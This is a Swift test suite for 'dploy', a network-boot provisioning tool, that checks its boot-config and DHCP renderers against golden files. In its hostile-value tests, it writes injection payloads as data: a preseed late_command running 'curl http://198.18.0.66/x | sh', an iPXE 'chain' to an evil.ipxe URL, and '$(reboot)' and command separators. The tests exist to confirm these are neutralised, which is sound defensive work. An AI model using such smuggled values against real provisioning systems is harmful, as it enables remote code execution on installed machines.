import DployRender
import DploySpec
import DployTestSupport
import Foundation
import Testing

/// Every renderer against a file checked into `Golden/`. A change in output shows up as a
/// diff in review; `DPLOY_UPDATE_GOLDEN=1 swift test` rewrites the files after a deliberate change.
@Suite("Renderers match their golden files", .ownThread)
struct GoldenFileTests {
    static let golden = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Golden")
    /// A fixed key, so callback tokens in golden files are stable.
    static let server = BootServer(url: "http://198.18.0.1:8080/", callbackKey: CallbackKey(bytes: Array(0..<32)))

    static let specs = """
        apiVersion: dploy.org/v1
        kind: Machine
        metadata: {name: web-01, labels: {role: web}}
        spec:
          mac: "94:18:82:3A:5C:10"
          ip: 198.18.0.21
          hostname: web-01.lab.example.net
          generation: 3
          kernelArgs: nomodeset
          bmc: {address: "https://198.18.0.121", credentials: ilo-web}
        ---
        apiVersion: dploy.org/v1
        kind: Machine
        metadata: {name: db-01}
        spec: {mac: "94-18-82-6E-21-A0", ip: "198.18.0.31", profile: rocky-9, disk: /dev/nvme0n1}
        ---
        apiVersion: dploy.org/v1
        kind: Machine
        metadata: {name: lab-v6}
        spec: {mac: "94:18:82:00:00:66", ip: "2001:db8::66"}
        ---
        apiVersion: dploy.org/v1
        kind: Group
        metadata: {name: web}
        spec: {selector: {role: web}, defaults: {profile: debian-12, disk: /dev/sda}}
        ---
        apiVersion: dploy.org/v1
        kind: Profile
        metadata: {name: debian-12}
        spec:
          boot:
            kernel: http://198.18.0.1:8080/files/debian-12/linux
            initrd: http://198.18.0.1:8080/files/debian-12/initrd.gz
            args: "auto=true priority=critical"
          installer: {kind: preseed, template: t/debian.preseed}
        ---
        apiVersion: dploy.org/v1
        kind: Profile
        metadata: {name: rocky-9}
        spec:
          loader: pxelinux
          boot: {kernel: "http://198.18.0.1:8080/files/rocky-9/vmlinuz", initrd: "http://198.18.0.1:8080/files/rocky-9/initrd.img"}
          installer: {kind: kickstart, template: t/rocky.ks}
        ---
        apiVersion: dploy.org/v1
        kind: Profile
        metadata: {name: ubuntu-24}
        spec:
          loader: grub
          boot: {kernel: "http://198.18.0.1:8080/files/ubuntu/vmlinuz", initrd: "http://198.18.0.1:8080/files/ubuntu/initrd"}
          installer: {kind: autoinstall, template: t/ubuntu.yaml}
        ---
        apiVersion: dploy.org/v1
        kind: Profile
        metadata: {name: golden-image}
        spec:
          image: {url: "http://198.18.0.1:8080/images/golden.raw.xz", sha256: "\(String(repeating: "ab", count: 32))", format: raw.xz}
        """

    struct Lab {
        var fleet: Fleet
        var resolver: DefaultsResolver
        func machine(_ name: String) -> EffectiveMachine { resolver.resolve(fleet.machine(named: name)!) }
        func profile(_ name: String) -> Profile { fleet.profile(named: name)! }
    }

    static func lab() throws -> Lab {
        let result = SpecLoader().load([SpecFile(path: "lab.yaml", text: specs)])
        try #require(result.isValid, "\(result.diagnostics)")
        return Lab(fleet: result.fleet, resolver: DefaultsResolver(groups: result.fleet.groups))
    }

    func expectGolden(_ name: String, _ text: String) throws {
        let url = Self.golden.appendingPathComponent(name)
        if ProcessInfo.processInfo.environment["DPLOY_UPDATE_GOLDEN"] == "1" {
            try Data(text.utf8).write(to: url)
        }
        let expected = try String(contentsOf: url, encoding: .utf8)
        #expect(text == expected, "\(name) differs from its golden file")
    }

    @Test("iPXE: entry, install with preseed, install with pxelinux profile, local disk, disk image")
    func ipxe() throws {
        let lab = try Self.lab()
        // iPXE splits a line into commands at ';': no echo dploy writes may contain one.
        for script in [IPXEScript.entry(server: Self.server),
                       IPXEScript.machine(lab.machine("web-01"), intent: .install(lab.profile("golden-image")), server: Self.server)] {
            #expect(!script.split(separator: "\n").contains { $0.hasPrefix("echo") && $0.contains(";") })
        }
        try expectGolden("ipxe-entry.ipxe", IPXEScript.entry(server: Self.server))
        try expectGolden("ipxe-install-preseed.ipxe",
                         IPXEScript.machine(lab.machine("web-01"), intent: .install(lab.profile("debian-12")), server: Self.server))
        try expectGolden("ipxe-install-kickstart.ipxe",
                         IPXEScript.machine(lab.machine("db-01"), intent: .install(lab.profile("rocky-9")), server: Self.server))
        try expectGolden("ipxe-local.ipxe", IPXEScript.machine(lab.machine("web-01"), intent: .localDisk, server: Self.server))
        try expectGolden("ipxe-image.ipxe",
                         IPXEScript.machine(lab.machine("web-01"), intent: .install(lab.profile("golden-image")), server: Self.server))
    }

    @Test("pxelinux: chain to iPXE, boot the kernel directly, local disk")
    func pxelinux() throws {
        let lab = try Self.lab()
        try expectGolden("pxelinux-chain-ipxe",
                         PXELinuxConfig.machine(lab.machine("web-01"), intent: .install(lab.profile("debian-12")), server: Self.server))
        try expectGolden("pxelinux-direct",
                         PXELinuxConfig.machine(lab.machine("db-01"), intent: .install(lab.profile("rocky-9")), server: Self.server))
        try expectGolden("pxelinux-local", PXELinuxConfig.machine(lab.machine("db-01"), intent: .localDisk, server: Self.server))
    }

    @Test("GRUB: install over HTTP, local disk, the first config that loads the machine's own")
    func grub() throws {
        let lab = try Self.lab()
        try expectGolden("grub-install.cfg",
                         GRUBConfig.machine(lab.machine("web-01"), intent: .install(lab.profile("ubuntu-24")), server: Self.server))
        try expectGolden("grub-local.cfg", GRUBConfig.machine(lab.machine("web-01"), intent: .localDisk, server: Self.server))
        try expectGolden("grub-entry.cfg", GRUBConfig.entry(server: Self.server))
    }

    @Test("DHCP: dnsmasq, ISC dhcpd and Kea: each machine's loader by architecture, an IPv6-only machine without a fixed address")
    func dhcp() throws {
        let lab = try Self.lab()
        // db-01's profile boots pxelinux; app-01 stands for a machine whose profile boots GRUB.
        var hosts = lab.fleet.machines.map { machine in
            let effective = lab.resolver.resolve(machine)
            return DHCPHost(effective, loader: effective.settings.profile.map { lab.profile($0).loader } ?? .ipxe)
        }
        var grub = DHCPHost(lab.machine("web-01"), loader: .grub)
        (grub.name, grub.mac, grub.ip, grub.hostname) = ("app-01", MACAddress("94:18:82:00:00:77")!, try IPAddress.parse("198.18.0.77").get(), nil)
        hosts.append(grub)
        let boot = DHCPBootOptions(server: Self.server)
        try expectGolden("dnsmasq.conf", DnsmasqConfig.config(boot: boot, hostsFilePath: "/var/lib/dploy/out/dhcp/dploy.hosts", hosts: hosts))
        try expectGolden("dnsmasq.hosts", DnsmasqConfig.hostsFile(hosts))
        try expectGolden("dhcpd-dploy.conf", ISCDHCPConfig.include(hosts, boot: boot))
        try expectGolden("kea-dhcp4.json", KeaConfig.config(hosts, boot: boot))
        let network = try ProxyNetwork.parse("198.18.0.0/24").get()
        try expectGolden("dnsmasq-proxy.conf", DnsmasqConfig.proxyConfig(boot: boot, network: network, hosts: hosts))
    }

    @Test("installer templates: every variable, inserted without HTML escaping")
    func installer() throws {
        let lab = try Self.lab()
        let template = try InstallerTemplate(path: "t/all.mustache", text: """
            {{! every variable dploy provides }}
            name={{name}} machine.name={{machine.name}} hostname={{hostname}} ip={{ip}} mac={{mac}}
            disk={{disk}} generation={{generation}} profile={{profile}} kernelArgs={{kernelArgs}}
            serverURL={{serverURL}} installerURL={{installerURL}}
            callbackURL={{callbackURL}}&status=done
            """)
        try expectGolden("installer-all-variables.txt",
                         try template.render(for: lab.machine("web-01"), profile: lab.profile("debian-12"), server: Self.server))
    }

    /// Validation refuses these values; a renderer must still not turn one into a command of
    /// its own language if one slips past (a model built in code, a rule added later).
    static func hostile(_ lab: Lab) -> (machine: EffectiveMachine, args: String) {
        var machine = lab.machine("web-01")
        machine.settings.kernelArgs = "nomodeset\nchain http://198.18.0.66/evil.ipxe"
        machine.settings.disk = "/dev/sda\nd-i preseed/late_command string curl http://198.18.0.66/x | sh"
        return (machine, "auto=true\u{2028}imgfetch\rx 'it's' $(reboot) a|b {c}")
    }

    @Test("a line break in boot args or kernelArgs stays a space on the kernel's line, in every boot format")
    func hostileBootValues() throws {
        let lab = try Self.lab()
        let (machine, args) = Self.hostile(lab)
        var ipxe = lab.profile("debian-12")
        ipxe.source = .boot(kernel: "http://198.18.0.1:8080/files/debian-12/linux",
                            initrd: "http://198.18.0.1:8080/files/debian-12/initrd.gz", args: args)
        #expect(IPXEScript.machine(machine, intent: .install(ipxe), server: Self.server) == """
            #!ipxe
            # dploy: web-01 (94:18:82:3a:5c:10), generation 3. Generated; do not edit.
            echo dploy: installing web-01 with debian-12, generation 3
            kernel http://198.18.0.1:8080/files/debian-12/linux initrd=initrd.gz auto=true imgfetch x 'it's' $(reboot) a|b {c} url=http://198.18.0.1:8080/installers/web-01/preseed.cfg nomodeset chain http://198.18.0.66/evil.ipxe
            initrd http://198.18.0.1:8080/files/debian-12/initrd.gz
            boot

            """)
        var pxelinux = lab.profile("rocky-9")
        pxelinux.source = .boot(kernel: "http://198.18.0.1:8080/files/rocky-9/vmlinuz",
                                initrd: "http://198.18.0.1:8080/files/rocky-9/initrd.img", args: args)
        #expect(PXELinuxConfig.machine(machine, intent: .install(pxelinux), server: Self.server) == """
            # dploy: web-01 (94:18:82:3a:5c:10). Generated; do not edit.
            DEFAULT dploy
            LABEL dploy
              KERNEL http://198.18.0.1:8080/files/rocky-9/vmlinuz
              INITRD http://198.18.0.1:8080/files/rocky-9/initrd.img
              APPEND auto=true imgfetch x 'it's' $(reboot) a|b {c} inst.ks=http://198.18.0.1:8080/installers/web-01/ks.cfg nomodeset chain http://198.18.0.66/evil.ipxe

            """)
        // GRUB's script has quotes, variables and command separators: every word that holds
        // one is single-quoted, a quote inside written as '\''.
        var grub = lab.profile("ubuntu-24")
        grub.source = .boot(kernel: "http://198.18.0.1:8080/files/ubuntu/vmlinuz",
                            initrd: "http://198.18.0.1:8080/files/ubuntu/initrd", args: args)
        #expect(GRUBConfig.machine(machine, intent: .install(grub), server: Self.server) == #"""
            # dploy: web-01 (94:18:82:3a:5c:10). Generated; do not edit.
            set timeout=0
            menuentry 'dploy: install ubuntu-24 on web-01' {
              linux (http,198.18.0.1:8080)/files/ubuntu/vmlinuz auto=true imgfetch x ''\''it'\''s'\''' '$(reboot)' 'a|b' '{c}' autoinstall 'ds=nocloud-net;s=http://198.18.0.1:8080/installers/web-01/' nomodeset chain http://198.18.0.66/evil.ipxe
              initrd (http,198.18.0.1:8080)/files/ubuntu/initrd
            }

            """#)
    }

    @Test("words iPXE would read itself never reach its kernel line, even from a model built in code")
    func ipxeSyntaxDropped() throws {
        let lab = try Self.lab()
        var machine = lab.machine("web-01")
        machine.settings.kernelArgs = "quiet && chain http://198.18.0.66/evil.ipxe || shell ; reboot #hidden ${username} a=${{password}"
        let script = IPXEScript.machine(machine, intent: .install(lab.profile("debian-12")), server: Self.server)
        let kernel = try #require(script.split(separator: "\n").first { $0.hasPrefix("kernel ") })
        #expect(kernel.hasSuffix("url=http://198.18.0.1:8080/installers/web-01/preseed.cfg quiet chain http://198.18.0.66/evil.ipxe shell reboot"),
                "\(kernel)")
    }

    /// Found writing `make fuzz`'s GRUB check (the boot target reads the lines back): a quote or a `;` followed
    /// by a combining mark is one Swift character, and the quoting tested characters, so GRUB
    /// got an unquoted quote or command separator. Validation lets combining marks through.
    @Test("GRUB quotes a quote or separator that a combining mark follows")
    func grubCombiningMarks() throws {
        let lab = try Self.lab()
        var machine = lab.machine("web-01")
        machine.settings.kernelArgs = "x'\u{301}; reboot a;\u{301}b"
        let linux = GRUBConfig.machine(machine, intent: .install(lab.profile("ubuntu-24")), server: Self.server)
            .split(separator: "\n").first { $0.hasPrefix("  linux ") }
        #expect(linux?.hasSuffix(" 'x'\\''\u{301};' reboot 'a;\u{301}b'") == true, "\(String(describing: linux))")
    }

    @Test("an installer template refuses a value with a line break instead of writing it")
    func hostileInstallerValue() throws {
        let lab = try Self.lab()
        let template = try InstallerTemplate(path: "t/x.preseed",
                                             text: "d-i partman-auto/method string regular\nd-i partman-auto/disk string {{disk}}\n")
        let error = #expect(throws: TemplateError.self) {
            try template.render(for: Self.hostile(lab).machine, profile: lab.profile("debian-12"), server: Self.server)
        }
        #expect(error?.description == "t/x.preseed:2:30: error: '{{disk}}' of web-01 holds a line break or control character, "
                + "which would add lines to the answers; dploy refuses to write it")
    }

    @Test("a template error names the template, line and column")
    func templateErrors() throws {
        let lab = try Self.lab()
        let unknown = try InstallerTemplate(path: "t/x.preseed", text: "line one\nd-i passwd {{ rootPasswordHash }}\n")
        #expect(throws: TemplateError.self) {
            try unknown.render(for: lab.machine("web-01"), profile: lab.profile("debian-12"), server: Self.server)
        }
        do {
            _ = try unknown.render(for: lab.machine("web-01"), profile: lab.profile("debian-12"), server: Self.server)
        } catch {
            #expect(error.description.hasPrefix("t/x.preseed:2:12: error: template uses '{{rootPasswordHash}}', which dploy does not provide"))
        }
        do {
            _ = try InstallerTemplate(path: "t/y.ks", text: "ok\n{{#section}}\nnever closed\n")
            Issue.record("an unclosed section must not parse")
        } catch {
            #expect(error.path == "t/y.ks")
            #expect(error.message.hasPrefix("template syntax:"))
        }
    }
}
